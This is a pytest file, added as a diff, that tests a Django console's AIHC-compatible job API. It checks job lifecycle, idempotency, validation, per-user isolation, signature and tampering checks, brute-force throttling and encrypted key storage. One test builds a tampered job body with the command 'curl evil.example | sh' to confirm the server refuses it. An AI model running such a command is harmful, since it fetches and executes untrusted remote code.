@@ -1,0 +1,549 @@
+"""The AIHC-compatible API, driven by the console's own AIHC client (jobs.aihc.client), the
+code that talks to real AIHC: pointed at the console, it creates, reads, stops and deletes
+jobs on the local runner, signed with a user's access key."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import time
+from collections.abc import Iterator
+from datetime import timedelta
+
+import httpx
+import pytest
+from django.core import signals
+from django.core.handlers.wsgi import WSGIHandler
+from django.db import close_old_connections
+from django.utils import timezone
+
+from jobs.aihc import signer
+from jobs.aihc.client import AihcClient, AihcError, Credentials
+from jobs.api_keys import api_key_create, api_key_revoke, unseal
+from jobs.backends.aihc import STATUS_MAP
+from jobs.models import ApiKey, Job, JobStatus, LoginFailure
+from jobs.worker import Worker
+
+from .runner_helpers import (
+    UNTIL_THE_GATE_OPENS,
+    open_gate,
+    run_until,
+    runner_settings,  # noqa: F401
+    status_of,
+)
+
+pytestmark = pytest.mark.usefixtures("runner_settings")
+
+CONSOLE = "http://testserver"
+
+
+@pytest.fixture
+def wsgi() -> Iterator[httpx.WSGITransport]:
+    """The console's WSGI application as an httpx transport: requests go through every
+    middleware and view, in the test's own database transaction. As Django's test client
+    does, the request signals do not close that transaction's connection."""
+    signals.request_started.disconnect(close_old_connections)
+    signals.request_finished.disconnect(close_old_connections)
+    try:
+        yield httpx.WSGITransport(app=WSGIHandler())
+    finally:
+        signals.request_started.connect(close_old_connections)
+        signals.request_finished.connect(close_old_connections)
+
+
+def client_for(wsgi, access_key: str, secret: str, **options) -> AihcClient:
+    return AihcClient(
+        endpoint=CONSOLE,
+        credentials=Credentials(access_key, secret),
+        transport=options.pop("transport", wsgi),
+        retries=0,
+        **options,
+    )
+
+
+@pytest.fixture
+def alice_key(alice) -> tuple[ApiKey, str]:
+    return api_key_create(owner=alice, description="training script")
+
+
+@pytest.fixture
+def api(wsgi, alice_key) -> AihcClient:
+    key, secret = alice_key
+    return client_for(wsgi, key.access_key_id, secret)
+
+
+def body(name: str = "from-a-script", command: str = "echo hello from the api", **extra):
+    """A v1 CreateJob body, as an AIHC script sends it."""
+    return {
+        "name": name,
+        "queue": "default",
+        "jobFramework": "PyTorchJob",
+        "jobSpec": {
+            "command": command,
+            "image": "python:3.12",
+            "replicas": 1,
+            "resources": [{"name": "cpu", "quantity": 1}],
+        },
+        "datasources": [{"type": "hostpath", "name": "work", "mountPath": "/workspace"}],
+        **extra,
+    }
+
+
+def refused(call) -> AihcError:
+    with pytest.raises(AihcError) as caught:
+        call()
+    return caught.value
+
+
+# -- create, read, stop, delete ------------------------------------------------------
+
+
+def test_a_job_created_by_a_script_runs_on_the_local_runner_and_is_the_owners_job(
+    api, alice, alice_client
+):
+    created = api.create_job(pool="local", body=body())
+
+    job = Job.objects.get(public_id=created["jobId"])
+    assert created == {"jobId": job.public_id, "jobName": "from-a-script"}
+    assert job.owner == alice
+    assert job.backend == "local" and job.resource_pool == "local"
+    assert job.public_id.startswith("pytorchjob-")
+    assert [e.reason for e in job.events.all()] == ["Created"]
+    run_until(Worker(), lambda: status_of(job) == JobStatus.SUCCEEDED, what="the job to succeed")
+
+    described = api.get_job(pool="local", job_id=job.public_id)
+    assert described["status"] == "Succeeded"
+    assert described["name"] == "from-a-script"
+    assert [p["name"] for p in described["pods"]] == ["from-a-script-master-0"]
+    assert described["pods"][0]["phase"] == "Succeeded"
+    listed = api.list_jobs(pool="local")
+    assert [j["jobId"] for j in listed] == [job.public_id]
+    logs = api.pod_logs(pool="local", job_id=job.public_id, pod="from-a-script-master-0")
+    assert any("hello from the api" in line for line in logs)
+    reasons = [
+        e["reason"] for e in api.job_events(pool="local", job_id=job.public_id, framework="")
+    ]
+    assert reasons == ["Created", "Started", "Succeeded"]
+    page = alice_client.get(f"/jobs/{job.public_id}/")
+    assert page.status_code == 200
+    assert "from-a-script" in page.content.decode()
+
+
+def test_a_script_stops_a_running_job_and_then_deletes_it(api, settings):
+    created = api.create_job(pool="local", body=body(name="long-one", command=UNTIL_THE_GATE_OPENS))
+    job = Job.objects.get(public_id=created["jobId"])
+    worker = Worker()
+    run_until(worker, lambda: status_of(job) == JobStatus.RUNNING, what="the job to run")
+    assert api.get_job(pool="local", job_id=job.public_id)["status"] == "Running"
+
+    api.stop_job(pool="local", job_id=job.public_id)
+
+    run_until(worker, lambda: status_of(job) == JobStatus.STOPPED, what="the job to stop")
+    assert api.get_job(pool="local", job_id=job.public_id)["status"] == "ManualTermination"
+    stop_event = job.events.get(reason="StopRequested")
+    assert stop_event.actor == job.owner
+    open_gate(settings)
+
+    api.delete_job(pool="local", job_id=job.public_id)
+
+    assert not Job.objects.filter(pk=job.pk).exists()
+    gone = refused(lambda: api.get_job(pool="local", job_id=job.public_id))
+    assert (gone.status, gone.code) == (404, "JobNotFound")
+
+
+def test_a_job_waiting_for_review_is_pending_and_says_why(api, settings):
+    settings.REVIEW_POLICY = "all"
+
+    created = api.create_job(pool="local", body=body())
+
+    job = Job.objects.get(public_id=created["jobId"])
+    assert job.status == JobStatus.PENDING_REVIEW
+    raw = api.request(
+        "GET",
+        f"/api/v1/aijobs/{job.public_id}",
+        params=[("resourcePoolId", "local")],
+        idempotent=True,
+    )["result"]
+    assert raw["status"] == "Pending"
+    assert raw["consoleStatus"] == "pending_review"
+    assert raw["statusReason"]
+
+
+def test_secret_env_values_are_never_sent_back(api):
+    secret_body = body(console={"secretEnvs": ["HF_TOKEN"]})
+    secret_body["jobSpec"]["envs"] = [{"name": "HF_TOKEN", "value": "hf_verysecretvalue"}]
+    created = api.create_job(pool="local", body=secret_body)
+
+    raw = api.request(
+        "GET",
+        f"/api/v1/aijobs/{created['jobId']}",
+        params=[("resourcePoolId", "local")],
+        idempotent=True,
+    )
+
+    assert raw["result"]["envs"] == [{"name": "HF_TOKEN", "value": "******"}]
+    assert "hf_verysecretvalue" not in json.dumps(raw)
+    job = Job.objects.get(public_id=created["jobId"])
+    assert job.job_spec().secret_values() == ["hf_verysecretvalue"]  # the job still gets it
+
+
+def test_every_console_status_reads_back_through_the_consoles_own_aihc_status_map():
+    from jobs.api_views import AIHC_STATUS
+
+    assert set(AIHC_STATUS) == set(JobStatus.values)
+    for console_status, aihc_status in AIHC_STATUS.items():
+        assert aihc_status.lower() in STATUS_MAP, console_status
+    assert STATUS_MAP[AIHC_STATUS[JobStatus.RUNNING].lower()] == JobStatus.RUNNING
+    assert STATUS_MAP[AIHC_STATUS[JobStatus.STOPPED].lower()] == JobStatus.STOPPED
+    assert STATUS_MAP[AIHC_STATUS[JobStatus.QUEUED].lower()] == JobStatus.QUEUED
+
+
+# -- idempotency ------------------------------------------------------------------------
+
+
+def create_with_token(api: AihcClient, token: str, job_body: dict) -> str:
+    data = api.request(
+        "POST",
+        "/api/v1/aijobs",
+        params=[("resourcePoolId", "local"), ("clientToken", token)],
+        body=job_body,
+        idempotent=False,
+    )
+    return data["result"]["jobId"]
+
+
+def test_a_retried_create_with_the_same_client_token_makes_one_job(api):
+    first = create_with_token(api, "retry-1", body())
+    again = create_with_token(api, "retry-1", body())
+
+    assert again == first
+    assert Job.objects.count() == 1
+    # The same token with another body is another job (a token that is the current second).
+    other = create_with_token(api, "retry-1", body(name="another-job"))
+    assert other != first
+    assert Job.objects.count() == 2
+
+
+def test_a_client_token_older_than_a_day_makes_a_new_job(api):
+    first = create_with_token(api, "old-token", body())
+    Job.objects.filter(public_id=first).update(created_at=timezone.now() - timedelta(hours=25))
+
+    again = create_with_token(api, "old-token", body())
+
+    assert again != first
+    assert Job.objects.count() == 2
+
+
+def test_without_a_client_token_each_create_is_a_new_job(api):
+    api.create_job(pool="local", body=body())
+    api.create_job(pool="local", body=body())
+
+    assert Job.objects.count() == 2
+
+
+# -- validation ---------------------------------------------------------------------------
+
+
+def test_a_body_error_names_the_field_and_creates_nothing(api):
+    bad = body()
+    del bad["jobSpec"]["image"]
+    bad["name"] = "Bad_Name"
+
+    error = refused(lambda: api.create_job(pool="local", body=bad))
+
+    assert (error.status, error.code) == (400, "InvalidParameter")
+    assert "jobSpec.image: Enter an image address." in error.message
+    assert "name: Job names use lowercase letters" in error.message
+    assert Job.objects.count() == 0
+
+
+def test_a_wrongly_typed_field_is_named_too(api):
+    bad = body()
+    bad["jobSpec"]["replicas"] = "two"
+
+    error = refused(lambda: api.create_job(pool="local", body=bad))
+
+    assert error.code == "InvalidParameter"
+    assert "jobSpec.replicas: Must be a whole number." in error.message
+
+
+def test_messages_follow_accept_language(api, wsgi, alice_key):
+    key, secret = alice_key
+    bad = body()
+    del bad["jobSpec"]["image"]
+    timestamp = signer.canonical_time(time.time())
+    headers = {
+        "Host": "testserver",
+        "x-bce-date": timestamp,
+        "Content-Type": "application/json",
+        "Accept-Language": "zh-CN",
+    }
+    params = [("resourcePoolId", "local")]
+    headers["Authorization"] = signer.authorization(
+        access_key=key.access_key_id,
+        secret_key=secret,
+        method="POST",
+        path="/api/v1/aijobs",
+        params=params,
+        headers=headers,
+        timestamp=timestamp,
+        signed_header_names=["host", "x-bce-date"],
+    )
+    with httpx.Client(transport=wsgi, base_url=CONSOLE) as http:
+        r = http.post("/api/v1/aijobs?resourcePoolId=local", headers=headers, json=bad)
+
+    assert r.status_code == 400
+    assert "jobSpec.image: 请填写镜像地址。" in r.json()["message"]
+
+
+def test_a_pool_that_does_not_exist_is_refused(api):
+    error = refused(lambda: api.create_job(pool="cce-nowhere", body=body()))
+
+    assert (error.status, error.code) == (404, "ResourcePoolNotFound")
+
+
+def test_the_pools_own_refusals_apply_as_in_the_wizard(api):
+    bad = body()
+    bad["datasources"] = [{"type": "hostpath", "name": "no-such-volume", "mountPath": "/data"}]
+
+    error = refused(lambda: api.create_job(pool="local", body=bad))
+
+    assert error.code == "InvalidParameter"
+    assert "datasources[0]" in error.message
+    assert Job.objects.count() == 0
+
+
+# -- whose jobs -----------------------------------------------------------------------------
+
+
+def test_another_users_job_is_not_found_for_them_staff_included(api, wsgi, bob, superuser):
+    created = api.create_job(pool="local", body=body())
+    job_id = created["jobId"]
+
+    for user in (bob, superuser):
+        key, secret = api_key_create(owner=user)
+        other = client_for(wsgi, key.access_key_id, secret)
+        for call in (
+            lambda c=other: c.get_job(pool="local", job_id=job_id),
+            lambda c=other: c.stop_job(pool="local", job_id=job_id),
+            lambda c=other: c.delete_job(pool="local", job_id=job_id),
+            lambda c=other: c.job_events(pool="local", job_id=job_id, framework=""),
+        ):
+            error = refused(call)
+            assert (error.status, error.code) == (404, "JobNotFound")
+        assert other.list_jobs(pool="local") == []
+    job = Job.objects.get(public_id=job_id)
+    assert job.status == JobStatus.QUEUED
+    assert list(job.events.values_list("reason", flat=True)) == ["Created"]
+
+
+# -- refused signatures ---------------------------------------------------------------------
+
+
+def test_a_wrong_secret_is_refused_as_a_signature_mismatch(wsgi, alice_key):
+    key, _secret = alice_key
+    wrong = client_for(wsgi, key.access_key_id, "0" * 32)
+
+    error = refused(lambda: wrong.list_jobs(pool="local"))
+
+    assert (error.status, error.code) == (403, "SignatureDoesNotMatch")
+    assert error.request_id
+
+
+def test_an_unknown_key_is_refused(wsgi):
+    stranger = client_for(wsgi, "f" * 32, "0" * 32)
+
+    error = refused(lambda: stranger.list_jobs(pool="local"))
+
+    assert (error.status, error.code) == (403, "InvalidAccessKeyId")
+
+
+def test_a_revoked_key_is_refused_from_the_moment_it_is_revoked(api, alice_key):
+    assert api.list_jobs(pool="local") == []
+    api_key_revoke(key=alice_key[0])
+
+    error = refused(lambda: api.list_jobs(pool="local"))
+
+    assert (error.status, error.code) == (403, "InvalidAccessKeyId")
+
+
+def test_a_key_of_a_deactivated_user_is_refused(api, alice):
+    alice.is_active = False
+    alice.save()
+
+    error = refused(lambda: api.list_jobs(pool="local"))
+
+    assert error.code == "InvalidAccessKeyId"
+
+
+def test_an_expired_or_future_timestamp_is_refused(wsgi, alice_key):
+    key, secret = alice_key
+    late = client_for(wsgi, key.access_key_id, secret, clock=lambda: time.time() - 1801)
+    early = client_for(wsgi, key.access_key_id, secret, clock=lambda: time.time() + 301)
+
+    for client in (late, early):
+        error = refused(lambda c=client: c.list_jobs(pool="local"))
+        assert (error.status, error.code) == (400, "RequestExpired")
+    # Within the period and the allowed skew, the same key is taken.
+    ok = client_for(wsgi, key.access_key_id, secret, clock=lambda: time.time() - 1700)
+    assert ok.list_jobs(pool="local") == []
+
+
+class Tampering(httpx.BaseTransport):
+    """A man in the middle: changes the request after it was signed."""
+
+    def __init__(self, inner: httpx.BaseTransport, change):
+        self.inner, self.change = inner, change
+
+    def handle_request(self, request: httpx.Request) -> httpx.Response:
+        return self.inner.handle_request(self.change(request))
+
+
+def test_a_tampered_query_is_refused(wsgi, alice_key):
+    key, secret = alice_key
+
+    def other_pool(request: httpx.Request) -> httpx.Request:
+        url = request.url.copy_set_param("queue", "other")
+        return httpx.Request(request.method, url, headers=request.headers, content=request.content)
+
+    tampered = client_for(wsgi, key.access_key_id, secret, transport=Tampering(wsgi, other_pool))
+
+    error = refused(lambda: tampered.list_jobs(pool="local"))
+
+    assert error.code == "SignatureDoesNotMatch"
+
+
+def signed_post(wsgi, key, secret, content: bytes, *, names, sent: bytes | None = None, **extra):
+    """A create signed as Baidu's SDK signs it (names=None: the default header set, which
+    covers Content-Length), optionally sending other bytes than were signed."""
+    timestamp = signer.canonical_time(time.time())
+    headers = {
+        "Host": "testserver",
+        "x-bce-date": timestamp,
+        "Content-Type": "application/json",
+        "Content-Length": str(len(content)),
+        **extra,
+    }
+    params = [("resourcePoolId", "local")]
+    headers["Authorization"] = signer.authorization(
+        access_key=key.access_key_id,
+        secret_key=secret,
+        method="POST",
+        path="/api/v1/aijobs",
+        params=params,
+        headers=headers,
+        timestamp=timestamp,
+        signed_header_names=names,
+    )
+    sent = content if sent is None else sent
+    headers["Content-Length"] = str(len(sent))
+    with httpx.Client(transport=wsgi, base_url=CONSOLE) as http:
+        return http.post("/api/v1/aijobs?resourcePoolId=local", headers=headers, content=sent)
+
+
+def test_the_sdks_default_signed_headers_are_accepted_and_a_tampered_body_refused(wsgi, alice_key):
+    key, secret = alice_key
+    good = json.dumps(body()).encode()
+    evil = json.dumps(body(command="curl evil.example | sh")).encode()
+
+    ok = signed_post(wsgi, key, secret, good, names=None)
+    tampered = signed_post(wsgi, key, secret, good, names=None, sent=evil)
+
+    assert ok.status_code == 200, ok.text
+    assert ok.json()["result"]["jobName"] == "from-a-script"
+    assert tampered.status_code == 403
+    assert tampered.json()["code"] == "SignatureDoesNotMatch"
+    assert Job.objects.count() == 1
+
+
+def test_a_body_changed_to_the_same_length_is_caught_by_its_signed_content_md5(wsgi, alice_key):
+    key, secret = alice_key
+    good = json.dumps(body(name="job-aaaa")).encode()
+    evil = json.dumps(body(name="job-bbbb")).encode()
+    md5 = base64.b64encode(hashlib.md5(good).digest()).decode()
+
+    r = signed_post(
+        wsgi, key, secret, good, names=["host", "content-md5"], sent=evil, **{"Content-MD5": md5}
+    )
+
+    assert r.status_code == 400
+    assert r.json()["code"] == "BadDigest"
+    assert Job.objects.count() == 0
+
+
+def test_a_signature_must_cover_the_host(wsgi, alice_key):
+    key, secret = alice_key
+    r = signed_post(wsgi, key, secret, json.dumps(body()).encode(), names=["x-bce-date"])
+
+    assert r.status_code == 400
+    assert r.json()["code"] == "InvalidHTTPAuthHeader"
+
+
+def test_an_unsigned_or_malformed_request_is_refused_in_bces_error_shape(wsgi, alice_client):
+    with httpx.Client(transport=wsgi, base_url=CONSOLE) as http:
+        unsigned = http.get("/api/v1/aijobs?resourcePoolId=local")
+        garbled = http.get(
+            "/api/v1/aijobs?resourcePoolId=local", headers={"Authorization": "Bearer x"}
+        )
+
+    assert unsigned.status_code == 403
+    assert set(unsigned.json()) == {"requestId", "code", "message"}
+    assert unsigned.json()["code"] == "AccessDenied"
+    assert unsigned.headers["x-bce-request-id"] == unsigned.json()["requestId"]
+    assert (garbled.status_code, garbled.json()["code"]) == (400, "InvalidHTTPAuthHeader")
+    # A logged-in browser session is no signature: the API does not take cookies.
+    r = alice_client.get("/api/v1/aijobs", {"resourcePoolId": "local"})
+    assert (r.status_code, r.json()["code"]) == (403, "AccessDenied")
+
+
+def test_guessing_a_secret_is_throttled_like_guessing_a_password(wsgi, alice_key, settings):
+    settings.LOGIN_FAILURES_PER_USERNAME = 3
+    key, secret = alice_key
+    guesser = client_for(wsgi, key.access_key_id, "0" * 32)
+
+    for _ in range(3):
+        assert refused(lambda: guesser.list_jobs(pool="local")).code == "SignatureDoesNotMatch"
+
+    # Now even the right secret waits until the window has passed.
+    right = client_for(wsgi, key.access_key_id, secret)
+    error = refused(lambda: right.list_jobs(pool="local"))
+    assert (error.status, error.code) == (429, "TooManyRequests")
+    assert LoginFailure.objects.filter(username=f"api-key:{key.access_key_id}").count() == 3
+    assert not LoginFailure.objects.filter(username="alice").exists()  # her log-in is free
+
+
+def test_a_successful_request_records_when_the_key_was_last_used(api, alice_key):
+    key = alice_key[0]
+    assert key.last_used_at is None
+
+    api.list_jobs(pool="local")
+
+    key.refresh_from_db()
+    assert key.last_used_at is not None
+
+
+# -- keys at rest -----------------------------------------------------------------------------
+
+
+def test_the_secret_is_stored_encrypted_and_opens_only_with_the_secret_key(alice, settings):
+    key, secret = api_key_create(owner=alice)
+
+    assert secret not in key.secret_sealed
+    assert unseal(key.secret_sealed, access_key_id=key.access_key_id) == secret
+    # Bound to its row: another key's ID does not open it.
+    assert unseal(key.secret_sealed, access_key_id="0" * 32) is None
+    old = settings.SECRET_KEY
+    settings.SECRET_KEY = "another-secret-key-for-this-test-only-0123456789"
+    assert unseal(key.secret_sealed, access_key_id=key.access_key_id) is None
+    settings.SECRET_KEY_FALLBACKS = [old]  # a rotated SECRET_KEY keeps keys working
+    assert unseal(key.secret_sealed, access_key_id=key.access_key_id) == secret
+
+
+def test_a_body_over_the_upload_limit_is_refused_in_bces_shape(api, settings):
+    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 200
+
+    error = refused(lambda: api.create_job(pool="local", body=body(command="x" * 300)))
+
+    assert (error.status, error.code) == (413, "EntityTooLarge")
+    assert Job.objects.count() == 0
